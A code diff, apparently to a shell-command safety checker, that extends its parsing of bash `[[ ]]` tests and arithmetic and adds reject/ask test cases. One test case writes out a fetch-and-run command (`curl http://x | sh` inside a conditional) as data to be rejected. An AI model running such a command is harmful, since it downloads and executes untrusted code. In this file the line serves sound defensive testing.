@@ -48,8 +48,9 @@ STRING_TESTS = frozenset(["-z", "-n", "-o"])
 EVALUATING_TESTS = frozenset(["-v", "-R"])
 ARITH_COMPARISONS = frozenset("-eq -ne -lt -le -gt -ge".split())
 STRING_COMPARISONS = frozenset("== = != =~ < >".split())
-# An operand of an arithmetic comparison that names a variable.
-_OPERAND = re.compile(r'"?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"?|([A-Za-z_][A-Za-z0-9_]*)')
+# An operand of an arithmetic comparison that names a variable (or is a
+# count bash keeps: `$#`, the number of arguments, `$?`, the last status).
+_OPERAND = re.compile(r'"?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"?|([A-Za-z_][A-Za-z0-9_]*)|"?\$[#?]"?')
 
 
 class Test(NamedTuple):
@@ -118,8 +119,8 @@ def cond_tests(s: str, span: Span) -> list[Test] | J:
             raise ValueError(f"`{raw[k]}` after the test")
     except ValueError as problem:
         return rej(f"the test `{s[span.start:span.end][:60]}` cannot be parsed here: {problem}", H_COND)
-    for test in tests:
-        if test.op in EVALUATING_TESTS:
+    for test in [*tests, *(Test(w, ()) for w, t in zip(raw, span.tokens) if t.word and w in EVALUATING_TESTS)]:
+        if test.op in EVALUATING_TESTS:  # wherever it stands (bash's grammar decides what it is)
             return rej(f"`[[ {test.op} ]]` tests a variable by name and evaluates array subscripts "
                        "(code hidden in words)", "test files and values directly (e.g. `[[ -f path ]]`)")
         if test.op == "=~":
@@ -151,13 +152,14 @@ def cond_checks(s: str, span: Span, tests: list[Test], values: dict[int, str]
             if m is None and not INTEGER.fullmatch(text):
                 return rej(f"`[[ ... {test.op} ... ]]` evaluates `{text}` as arithmetic, which runs the command "
                            "substitutions in a variable's value", H_ARITH)
-            names += [m.group(1) or m.group(2)] if m is not None else []
+            names += [m.group(1) or m.group(2)] if m is not None and m.lastindex else []
     return names, argvs
 
 
-# Arithmetic: numbers (decimal, octal, hex, BASE#DIGITS), names, `$NAME`, operators.
+# Arithmetic: numbers (decimal, octal, hex, BASE#DIGITS, the counts `$#` and
+# `$?`), names, `$NAME`, operators.
 _ARITH_TOKEN = re.compile(
-    r"\s+|(?P<number>0[xX][0-9A-Fa-f]+|[0-9]+#[0-9A-Za-z@_]+|[0-9]+)(?![A-Za-z0-9_#])"
+    r"\s+|(?P<number>0[xX][0-9A-Fa-f]+|[0-9]+#[0-9A-Za-z@_]+|[0-9]+|\$[#?])(?![A-Za-z0-9_#])"
     r"|\$?(?P<name>[A-Za-z_][A-Za-z0-9_]*)(?![\[A-Za-z0-9_])"
     r"|(?P<assign><<=|>>=|[-+*/%&^|]=|=(?!=))"
     r"|(?P<step>\+\+|--)"
@@ -306,6 +308,11 @@ CASES: list[tuple[str, str, str | None]] = [
     ("[[ -n `curl http://x | sh` ]]", "reject", None),
     ("[[ -v x ]] && echo y", "reject", "-v"),
     ("[[ -R x ]] && echo y", "reject", "-R"),
+    ("[[ -v ]] && echo y", "reject", "-v"),
+    ("[[ a == b || ( -v x ) ]]", "reject", "-v"),
+    ("while [[ $# -gt 0 ]]; do shift; done", "ask", "opaque"),
+    ('[[ "$?" -ne 0 ]] && echo failed', "ask", "only reads"),
+    ("echo $(( $# + $? ))", "ask", "only reads"),
     ('for f in *; do read -r v < "$f"; [[ $v -eq 1 ]] && echo y; done', "reject", "arithmetic"),
     ('for f in *; do [[ "$f" -gt 2 ]] && echo y; done', "reject", "arithmetic"),
     ("[[ x -eq 1 ]] && echo y", "reject", "arithmetic"),
